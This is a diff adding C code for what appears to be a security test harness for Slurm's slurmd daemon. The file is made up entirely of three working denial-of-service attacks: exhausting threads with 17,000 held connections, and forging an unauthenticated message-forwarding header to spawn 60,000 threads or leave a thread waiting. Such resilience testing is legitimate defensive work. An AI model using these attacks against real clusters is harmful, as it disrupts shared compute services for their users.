@@ -1,0 +1,109 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* What takes threads of slurmd before it knows who asks. */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <netinet/in.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include "attack.h"
+
+/* More than the processes and threads that a container of a node may have. */
+#define CONNECTIONS 17000
+#define HOLD_S 8
+#define MESSAGES 300
+#define REQUEST_PING 1008
+
+static int connect_to_slurmd(void)
+{
+	struct sockaddr_in address = {
+		.sin_family = AF_INET,
+		.sin_port = htons((uint16_t)given_number("SLURMD_PORT")),
+		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
+	};
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	if (fd < 0)
+		broken("socket: %s", strerror(errno));
+	if (connect(fd, (struct sockaddr *)&address, sizeof(address)))
+		escaped("slurmd takes no connections any more: %s", strerror(errno));
+	return fd;
+}
+
+static void hold_connections(void)
+{
+	struct rlimit limit;
+
+	if (getrlimit(RLIMIT_NOFILE, &limit) || limit.rlim_max < CONNECTIONS + 16)
+		absent("a limit of open files that allows it");
+	limit.rlim_cur = limit.rlim_max;
+	setrlimit(RLIMIT_NOFILE, &limit);
+	for (int i = 0; i < CONNECTIONS; i++)
+		(void)connect_to_slurmd();
+	sleep(HOLD_S);
+	(void)connect_to_slurmd();
+	errno = 0;
+	held("slurmd took %d connections", CONNECTIONS);
+}
+
+static unsigned char message[256];
+static size_t size;
+
+static void add(uint32_t number, size_t bytes)
+{
+	for (size_t i = bytes; i-- > 0;)
+		message[size++] = (unsigned char)(number >> 8 * i);
+}
+
+/* Slurm's header; there is no credential behind it. */
+static void send_to_pass_on(const char *names, unsigned nodes)
+{
+	size = 4;
+	add((uint32_t)given_number("PROTOCOL") << 8, 2);
+	add(0, 2);
+	add(REQUEST_PING, 2);
+	add(0, 4);
+	add(nodes, 2);
+	add((uint32_t)strlen(names) + 1, 4);
+	memcpy(message + size, names, strlen(names) + 1);
+	size += strlen(names) + 1;
+	add(0, 4);
+	add(UINT16_MAX, 2);
+	add(0, 8);
+	size_t all = size;
+	size = 0;
+	add((uint32_t)all - 4, 4);
+	for (int i = 0; i < MESSAGES; i++)
+		if (send(connect_to_slurmd(), message, all, MSG_NOSIGNAL) < 0)
+			held("send");
+}
+
+/* For each node a thread. */
+static void pass_to_many(void)
+{
+	send_to_pass_on("x[1-60000]", 60000);
+	sleep(HOLD_S);
+	(void)connect_to_slurmd();
+	errno = 0;
+	held("slurmd goes on");
+}
+
+/* One thread waits for answers of nodes that it does not ask. */
+static void pass_to_fewer(void)
+{
+	send_to_pass_on("x1", 2);
+	errno = 0;
+	held("slurmd goes on");
+}
+
+const struct attack request_attacks[] = {
+	{ "hold-connections", hold_connections },
+	{ "pass-to-many", pass_to_many },
+	{ "pass-to-fewer", pass_to_fewer },
+	{ NULL, NULL },
+};
